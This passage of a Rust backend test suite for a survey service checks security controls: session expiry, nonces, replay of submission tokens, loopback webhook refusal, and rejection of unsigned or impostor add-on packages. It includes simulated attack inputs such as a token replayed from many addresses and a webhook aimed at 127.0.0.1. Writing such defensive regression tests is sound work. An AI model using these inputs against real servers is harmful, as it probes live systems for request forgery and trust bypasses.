                format!("/api/v1/users/{me}"),
                json!({"role": "editor"}),
            ),
            ("DELETE", format!("/api/v1/users/{me}"), json!({})),
        ] {
            let res = match method {
                "POST" => admin.post(&path, body).await,
                _ => admin.delete(&path, body).await,
            };
            assert_eq!(res.status, 409, "{method} {path}: {}", res.body);
            assert_eq!(res.body["code"], "last_administrator");
            assert_eq!(
                res.message(),
                "At least one active administrator must remain."
            );
        }
        assert_eq!(admin.get("/api/v1/auth/me").await.status, 200);

        // With a second administrator, the first can go; their sessions end with them.
        let res = admin
            .post(
                "/api/v1/users",
                json!({"email": "root@example.com", "password": "password-123", "role": "administrator"}),
            )
            .await;
        assert_eq!(res.status, 201);
        let mut second = signed_in(&app, "root@example.com", "password-123").await;
        let res = second
            .delete(&format!("/api/v1/users/{me}"), json!({}))
            .await;
        assert_eq!(res.status, 200, "{}", res.body);
        assert_eq!(admin.get("/api/v1/auth/me").await.status, 401);
        let res = second.delete("/api/v1/users/99999", json!({})).await;
        assert_eq!(res.status, 404);
        assert_eq!(res.message(), "There is no user with id 99999.");
    }
);

backend_test!(
    an_unused_session_ends_after_the_idle_period,
    |app| async move {
        let mut admin = app.admin().await;
        let res = admin
            .post("/api/v1/settings", json!({"session_idle_hours": 0}))
            .await;
        assert_eq!(res.status, 422, "{}", res.body);
        assert_eq!(
            admin.get("/api/v1/settings").await.body["session_idle_hours"],
            8
        );
        let res = admin
            .post("/api/v1/settings", json!({"session_idle_hours": 1}))
            .await;
        assert_eq!(res.status, 200, "{}", res.body);
        let mut busy = signed_in(&app, ADMIN_EMAIL, ADMIN_PASSWORD).await;
        // Both sessions were last used 59 minutes ago, then one of them is used.
        let earlier = hearken::time::now() - 59 * 60;
        hearken::on_db!(&app.db, pool => sqlx::query("UPDATE sessions SET last_seen_at = $1")
            .bind(earlier).execute(pool).await.unwrap().rows_affected());
        assert_eq!(busy.get("/api/v1/auth/me").await.status, 200);
        // Two more minutes pass: the unused session has been idle for over an hour.
        hearken::on_db!(&app.db, pool => sqlx::query("UPDATE sessions SET last_seen_at = last_seen_at - 120")
            .execute(pool).await.unwrap().rows_affected());
        assert_eq!(admin.get("/api/v1/auth/me").await.status, 401);
        assert_eq!(busy.get("/api/v1/auth/me").await.status, 200);
    }
);

backend_test!(every_sign_in_gets_a_new_nonce, |app| async move {
    let mut first = app.client();
    let one = first
        .post(
            "/api/v1/setup",
            json!({"email": ADMIN_EMAIL, "password": ADMIN_PASSWORD}),
        )
        .await
        .body["nonce"]
        .clone();
    let two = login_from(&app, "203.0.113.10", ADMIN_EMAIL, ADMIN_PASSWORD)
        .await
        .body["nonce"]
        .clone();
    assert!(one.is_string() && two.is_string());
    assert_ne!(one, two);
    // The old session's nonce does not work with the new session.
    let mut second = signed_in(&app, ADMIN_EMAIL, ADMIN_PASSWORD).await;
    second.nonce = Some(one.as_str().unwrap().to_owned());
    let res = second.post("/api/v1/settings", json!({})).await;
    assert_eq!(res.status, 403);
    assert_eq!(res.body["code"], "invalid_nonce");
});

#[test]
fn users_are_managed_from_the_command_line() {
    let bin = env!("CARGO_BIN_EXE_hearken");
    let data = tempfile::tempdir().unwrap();
    let run = |args: &[&str]| {
        let out = std::process::Command::new(bin)
            .args(args)
            .arg("--data-dir")
            .arg(data.path())
            .env_remove("DATABASE_URL")
            .output()
            .unwrap();
        (
            out.status.success(),
            String::from_utf8_lossy(&out.stdout).into_owned()
                + &String::from_utf8_lossy(&out.stderr),
        )
    };
    let (ok, out) = run(&[
        "user",
        "add",
        "--email",
        "ada@example.com",
        "--password",
        "password-123",
    ]);
    assert!(ok, "{out}");
    let (ok, out) = run(&[
        "user",
        "add",
        "--email",
        "eve@example.com",
        "--password",
        "password-123",
        "--role",
        "editor",
    ]);
    assert!(ok, "{out}");
    let (ok, out) = run(&[
        "user",
        "passwd",
        "--email",
        "eve@example.com",
        "--password",
        "new-password-1",
    ]);
    assert!(ok, "{out}");
    let (ok, out) = run(&[
        "user",
        "passwd",
        "--email",
        "eve@example.com",
        "--password",
        "short",
    ]);
    assert!(!ok && out.contains("at least 8 characters"), "{out}");
    let (ok, out) = run(&["user", "disable", "--email", "ada@example.com"]);
    assert!(
        !ok && out.contains("At least one active administrator must remain."),
        "{out}"
    );
    let (ok, out) = run(&["user", "disable", "--email", "eve@example.com"]);
    assert!(ok, "{out}");
    let (ok, out) = run(&["user", "delete", "--email", "eve@example.com"]);
    assert!(ok, "{out}");
    let (ok, out) = run(&["user", "delete", "--email", "eve@example.com"]);
    assert!(
        !ok && out.contains("There is no user with the e-mail address eve@example.com."),
        "{out}"
    );
}

// Item 9: a submission token stores one response; the pages table stays bounded.

backend_test!(
    one_scraped_submission_token_stores_one_response,
    |app| async move {
        let mut admin = app.admin().await;
        let res = admin
            .post("/api/v1/surveys", common::valid_survey("Stuffed"))
            .await;
        let id = res.body["survey"]["id"].as_i64().unwrap();
        let question = res.body["survey"]["questions"][0]["id"].clone();
        let answer = json!([{"question_id": question, "value": "Well"}]);
        let mut visitor = app.client();
        let shown = visitor
            .get("/api/v1/widget/survey?url=https%3A%2F%2Fshop.example%2F")
            .await;
        let impression = shown.body["survey"]["nonces"]["impression"]
            .as_str()
            .unwrap()
            .to_owned();
        let counted = visitor
            .post(
                &format!("/api/v1/surveys/{id}/impression?nonce={impression}"),
                json!({}),
            )
            .await;
        assert_eq!(counted.status, 200, "{}", counted.body);
        let token = counted.body["submission"].as_str().unwrap().to_owned();

        // The attacker replays the token from many addresses at once: one response is stored.
        let mut stuffers: Vec<Client> = (0..12)
            .map(|n| {
                let mut c = app.client();
                c.address = format!("198.51.100.{n}");
                c
            })
            .collect();
        let path = format!("/api/v1/surveys/{id}/responses");
        let statuses = join_all(stuffers.iter_mut().map(|c| {
            let body = json!({"answers": answer, "page_submitted": {}, "nonce": token});
            let path = path.clone();
            async move {
                let res = c.post(&path, body).await;
                (res.status, res.body["code"].clone())
            }
        }))
        .await;
        assert_eq!(
            statuses.iter().filter(|(s, _)| *s == 201).count(),
            1,
            "{statuses:?}"
        );
        assert!(
            statuses
                .iter()
                .filter(|(s, _)| *s != 201)
                .all(|(s, code)| *s == 409 && code == "already_submitted"),
            "{statuses:?}"
        );
        let again = visitor
            .post(
                &path,
                json!({"answers": answer, "page_submitted": {}, "nonce": token}),
            )
            .await;
        assert_eq!(again.status, 409);
        assert_eq!(again.message(), "This response was already sent.");
        let stored = admin.get(&format!("/api/v1/surveys/{id}/responses")).await;
        assert_eq!(stored.body["pagination"]["total"], 1, "{}", stored.body);

        // The page's own token works once as well.
        let page_token = shown.body["survey"]["nonces"]["submission"]
            .as_str()
            .unwrap();
        let first = visitor
            .post(
                &path,
                json!({"answers": answer, "page_submitted": {}, "nonce": page_token}),
            )
            .await;
        assert_eq!(first.status, 201, "{}", first.body);
        let second = visitor
            .post(
                &path,
                json!({"answers": answer, "page_submitted": {}, "nonce": page_token}),
            )
            .await;
        assert_eq!(second.status, 409);
    }
);

backend_test!(
    made_up_pages_cannot_grow_the_pages_table_without_bound,
    |app| async move {
        use hearken::widget::store::{MAX_PAGES_SEEN, SeenPage, record_page};
        // The table is full of pages seen over time, the oldest first.
        let now = hearken::time::now();
        hearken::on_db!(&app.db, pool => {
            for n in 0..=MAX_PAGES_SEEN + 100 {
                sqlx::query("INSERT INTO pages_seen (url, title, last_seen_at) VALUES ($1, $1, $2)")
                    .bind(format!("https://shop.example/{n}")).bind(now - 100_000 + n)
                    .execute(pool).await.unwrap();
            }
        });
        let page = SeenPage {
            url: "https://shop.example/new".into(),
            title: "New".into(),
            post_id: None,
            page_type: None,
        };
        record_page(&app.db, &page, now).await.unwrap();
        let (count, oldest_kept, new_kept): (i64, i64, i64) = hearken::on_db!(&app.db, pool => sqlx::query_as(
            "SELECT COUNT(*), \
             (SELECT COUNT(*) FROM pages_seen WHERE url = 'https://shop.example/0'), \
             (SELECT COUNT(*) FROM pages_seen WHERE url = 'https://shop.example/new') FROM pages_seen")
            .fetch_one(pool).await.unwrap());
        assert_eq!(count, MAX_PAGES_SEEN);
        assert_eq!(oldest_kept, 0, "the least recently seen page goes first");
        assert_eq!(new_kept, 1);
    }
);

backend_test!(
    with_site_origins_set_other_sites_pages_are_not_recorded,
    |app| async move {
        let mut admin = app.admin().await;
        let res = admin
            .post(
                "/api/v1/settings",
                json!({"widget_allowed_origins": "https://shop.example"}),
            )
            .await;
        assert_eq!(res.status, 200, "{}", res.body);
        let mut visitor = app.client();
        for url in [
            "https://shop.example/cart",
            "https://elsewhere.example/spam",
        ] {
            visitor
                .send_full(
                    axum::http::Method::GET,
                    &format!(
                        "/api/v1/widget/survey?url={}",
                        url.replace(':', "%3A").replace('/', "%2F")
                    ),
                    None,
                    &[("origin", "https://shop.example")],
                )
                .await;
        }
        // Pages are recorded off the request's path: give the writes a moment.
        tokio::time::sleep(std::time::Duration::from_millis(300)).await;
        let urls: Vec<String> = hearken::on_db!(&app.db, pool => sqlx::query_scalar("SELECT url FROM pages_seen ORDER BY url")
            .fetch_all(pool).await.unwrap());
        assert_eq!(urls, ["https://shop.example/cart"]);
    }
);

// Add-on trust: what an add-on may reach.

backend_test!(
    an_add_ons_request_to_loopback_is_refused,
    config = |c: &mut hearken::Config| c.addon_allowed_networks.clear(),
    |app| async move {
        let mut admin = app.admin().await;
        let res = admin
            .upload(
                "/api/v1/addons/upload?activate=true",
                &common::addon_package("webhook-notifier"),
            )
            .await;
        assert_eq!(res.status, 201, "{}", res.body);
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let res = admin
            .send_bytes(
                axum::http::Method::PUT,
                "/api/v1/addons/webhook-notifier/config",
                "application/json",
                json!({"url": format!("http://127.0.0.1:{port}/hook")})
                    .to_string()
                    .into_bytes(),
            )
            .await;
        assert_eq!(res.status, 200, "{}", res.body);
        let id = admin
            .post("/api/v1/surveys", common::valid_survey("Hooked"))
            .await
            .body["survey"]["id"]
            .as_i64()
            .unwrap();
        let nonce = app.submission_nonce(id).await;
        let res = app
            .client()
            .post(
                &format!("/api/v1/surveys/{id}/responses"),
                json!({"answers": [{"question_id": "q1", "value": "Well"}], "nonce": nonce}),
            )
            .await;
        assert_eq!(res.status, 201);
        // The same round trip reaches the listener when loopback is allowed (common::webhook).
        let reached =
            tokio::time::timeout(std::time::Duration::from_secs(2), listener.accept()).await;
        assert!(reached.is_err(), "the add-on reached 127.0.0.1");
    }
);

/// Installs the probe add-on (`extra` appended to its manifest) as an administrator.
async fn install_probe(app: &TestApp, admin: &mut Client, extra: &str) {
    admin.license(hearken::licensing::Tier::Pro).await;
    let package = common::addon_package_with("probe", |m| format!("{m}\n{extra}"));
    let res = admin
        .upload("/api/v1/addons/upload?activate=true", &package)
        .await;
    assert_eq!(res.status, 201, "{}", res.body);
    let _ = app;
}

backend_test!(
    an_editor_cannot_call_an_add_ons_admin_route_unless_its_manifest_says,
    |app| async move {
        let mut admin = app.admin().await;
        install_probe(&app, &mut admin, "").await;
        let mut editor = app.user_with_role(&mut admin, "editor").await;
        let refused = editor.get("/api/v1/addons/probe/counter").await;
        assert_eq!(refused.status, 403, "{}", refused.body);
        assert_eq!(refused.body["code"], "missing_capability");
        assert_eq!(admin.get("/api/v1/addons/probe/counter").await.status, 200);

        // The manifest names a capability editors hold for the read; the write stays closed.
        install_probe(
            &app,
            &mut admin,
            "[[admin_routes]]\npath = \"/counter\"\nmethods = [\"GET\"]\ncapability = \"view_results\"\n",
        )
        .await;
        assert_eq!(editor.get("/api/v1/addons/probe/counter").await.status, 200);
        let write = editor.post("/api/v1/addons/probe/counter", json!({})).await;
        assert_eq!(write.status, 403, "{}", write.body);
    }
);

backend_test!(
    an_add_ons_storage_has_a_quota,
    config = |c: &mut hearken::Config| c.addon_storage_quota_mb = 0,
    |app| async move {
        let mut admin = app.admin().await;
        admin.license(hearken::licensing::Tier::Pro).await;
        // The probe counts its activations in its storage: with no room, activating it fails with
        // the quota's message, and the add-on stays inactive.
        let res = admin
            .upload(
                "/api/v1/addons/upload?activate=true",
                &common::addon_package("probe"),
            )
            .await;
        assert_eq!(res.status, 422, "{}", res.body);
        assert!(
            res.message().contains("the add-on's storage is full"),
            "{}",
            res.body
        );
        let listed = admin.get("/api/v1/addons").await.body;
        let probe = listed
            .as_array()
            .unwrap()
            .iter()
            .find(|a| a["slug"] == "probe")
            .cloned()
            .unwrap_or_default();
        assert_ne!(probe["active"], true, "{probe}");
    }
);

// Add-on trust: who may install what.

/// The probe's package with `edit` applied to its manifest, unsigned.
fn unsigned_probe(edit: impl Fn(String) -> String) -> Vec<u8> {
    let (dir, wasm) = common::addon_sources("probe");
    let copy = tempfile::tempdir().unwrap();
    let manifest = std::fs::read_to_string(dir.join("addon.toml")).unwrap();
    std::fs::write(copy.path().join("addon.toml"), edit(manifest)).unwrap();
    hearken::addons::package::pack(copy.path(), Some(&wasm))
        .unwrap()
        .1
}

backend_test!(
    an_unsigned_package_cannot_claim_a_first_party_slug_or_a_paid_plan,
    |app| async move {
        app.stock_catalogue();
        let mut admin = app.admin().await;
        admin.license(hearken::licensing::Tier::Elite).await;
        // The probe's component dressed as the catalogue's first-party behavior add-on, free.
        let impostor = unsigned_probe(|m| {
            m.replace("slug = \"probe\"", "slug = \"behavior\"")
                .replace("plan = \"pro\"", "plan = \"lite\"")
        });
        let res = admin
            .upload("/api/v1/addons/upload?activate=true", &impostor)
            .await;
        assert_eq!(res.status, 403, "{}", res.body);
        assert_eq!(res.body["code"], "signature_required");
        assert!(res.message().contains("behavior"), "{}", res.message());

        // A new slug that needs a paid plan, signed by a publisher nobody trusts.
        let stranger = ed25519_dalek::SigningKey::from_bytes(&[77; 32]);
        let paid = hearken::addons::package::sign(&unsigned_probe(|m| m), &stranger).unwrap();
        let res = admin
            .upload("/api/v1/addons/upload?activate=true", &paid)
            .await;
        assert_eq!(res.status, 403, "{}", res.body);
        assert_eq!(res.body["code"], "signature_required");
        // Consent does not help either.
        let sha = hearken::addons::package::sha256_hex(&paid);
        let res = admin
            .upload(&format!("/api/v1/addons/upload?consent={sha}"), &paid)
            .await;
        assert_eq!(res.status, 403);

        // The first-party package itself, signed, installs.
        let res = admin
            .post("/api/v1/addons/behavior/install", json!({}))
            .await;
        assert_eq!(res.status, 200, "{}", res.body);
        let listed = admin.get("/api/v1/addons").await.body;
        let behavior = listed
            .as_array()
            .unwrap()
            .iter()
            .find(|a| a["slug"] == "behavior")
            .unwrap()
            .clone();
        assert_eq!(behavior["signed"], "trusted", "{behavior}");
    }
);

backend_test!(
    an_unsigned_third_party_package_installs_only_with_consent,
    |app| async move {
        let mut admin = app.admin().await;
        let free = unsigned_probe(|m| {
            m.replace("slug = \"probe\"", "slug = \"free-probe\"")
                .replace("plan = \"pro\"", "plan = \"lite\"")
                + r#"
[settings.probe_mode]
default = "calm"
schema = { type = "string" }

[settings.probe_token]
default = ""
secret = true
schema = { type = "string" }

[survey_settings.probe_nudge]
default = 0
schema = { type = "integer" }
"#
        });
        let asked = admin
            .upload("/api/v1/addons/upload?activate=true", &free)
            .await;
        assert_eq!(asked.status, 409, "{}", asked.body);
        assert_eq!(asked.body["code"], "consent_required");
        assert_eq!(asked.body["addon"]["slug"], "free-probe");
        assert_eq!(asked.body["capabilities"]["storage"], true);
        assert_eq!(
            asked.body["capabilities"]["permissions"],
            json!(["surveys:read"])
        );
        // The setting keys it would own, a secret one too, before anything is installed.
        assert_eq!(
            asked.body["capabilities"]["plugin_settings"],
            json!(["probe_mode", "probe_token"])
        );
        assert_eq!(
            asked.body["capabilities"]["survey_settings"],
            json!(["probe_nudge"])
        );
        let sha = asked.body["sha256"].as_str().unwrap().to_owned();
        assert_eq!(sha, hearken::addons::package::sha256_hex(&free));
        assert!(
            !admin
                .get("/api/v1/addons")
                .await
                .body
                .to_string()
                .contains("free-probe"),
            "nothing was installed before consent"
        );
        // Consent to another package's digest is not consent to this one.
        let wrong = admin
            .upload(
                &format!("/api/v1/addons/upload?consent={}", "0".repeat(64)),
                &free,
            )
            .await;
        assert_eq!(wrong.status, 409);
        let res = admin
            .upload(
                &format!("/api/v1/addons/upload?activate=true&consent={sha}"),
                &free,
            )
            .await;
        assert_eq!(res.status, 201, "{}", res.body);
        assert_eq!(res.body["signed"], "unsigned");
        assert_eq!(res.body["capabilities"]["storage"], true);
    }
);

backend_test!(
    the_operator_can_refuse_every_unsigned_package,
    config = |c: &mut hearken::Config| c.require_signed_addons = true,
    |app| async move {
        let mut admin = app.admin().await;
        let free = unsigned_probe(|m| {
            m.replace("slug = \"probe\"", "slug = \"free-probe\"")
                .replace("plan = \"pro\"", "plan = \"lite\"")
        });
        let sha = hearken::addons::package::sha256_hex(&free);
        let res = admin
            .upload(&format!("/api/v1/addons/upload?consent={sha}"), &free)
            .await;
        assert_eq!(res.status, 403, "{}", res.body);
        assert_eq!(res.body["code"], "unsigned_refused");
        assert_eq!(
            res.message(),
            "This installation accepts only add-ons signed by a trusted publisher."
        );
    }
);

backend_test!(
    a_production_server_does_not_trust_the_development_publisher,
    config = |c: &mut hearken::Config| c.dev = false,
    |app| async move {
        let mut admin = app.admin().await;
        // Signed by the development publisher, needing a paid plan: refused without --dev.
        let res = admin
            .upload("/api/v1/addons/upload", &common::addon_package("probe"))
            .await;
        assert_eq!(res.status, 403, "{}", res.body);
        assert_eq!(res.body["code"], "signature_required");
    }
);

#[test]
fn addon_pack_signs_with_a_publisher_key_file() {
    let (dir, wasm) = common::addon_sources("probe");
    let out = tempfile::tempdir().unwrap();
    let key = common::workspace_root().join("host/dev-keys/DEVELOPMENT-ONLY-publisher.seed.hex");
    let done = std::process::Command::new(env!("CARGO_BIN_EXE_hearken"))
        .args(["addon", "pack"])
        .arg(&dir)
        .arg("--wasm")
        .arg(&wasm)
        .arg("--out")
        .arg(out.path())
        .arg("--sign-key")
        .arg(&key)
        .env(
            "HEARKEN_DATA_DIR",
            common::workspace_root().join("target/test-data"),
        )
        .output()
        .unwrap();
    assert!(
        done.status.success(),
        "{}",
        String::from_utf8_lossy(&done.stderr)
    );
    let path = String::from_utf8_lossy(&done.stdout).trim().to_owned();
    let package = hearken::addons::package::read(&std::fs::read(path).unwrap()).unwrap();
    assert_eq!(
        package.publisher,
        Some(hearken::addons::package::trust::dev_publisher_key().verifying_key())
    );
}

backend_test!(
    an_anonymous_answer_at_an_encoded_address_reloads_no_snapshot,
    |app| async move {
        let mut admin = app.admin().await;
        let made = admin
            .post("/api/v1/surveys", common::valid_survey("Encoded"))
            .await;
        assert_eq!(made.status, 201, "{}", made.body);
        let id = made.body["survey"]["id"].as_i64().unwrap();
        let before = app.state.visitors.generation();
        let encoded: String = id
            .to_string()
            .bytes()
            .map(|b| format!("%{b:02X}"))
            .collect();
        let nonce = app.submission_nonce(id).await;
        let mut visitor = app.client();
        let stored = visitor
            .post(
                &format!("/api/v1/surveys/{encoded}/responses"),
                json!({"answers": [{"question_id": "q1", "value": "Well"}], "nonce": nonce}),
            )
            .await;
        assert_eq!(stored.status, 201, "{}", stored.body);
        assert_eq!(
            app.state.visitors.generation(),
            before,
            "a visitor's write made every visitor's next request reload"
        );
    }
);
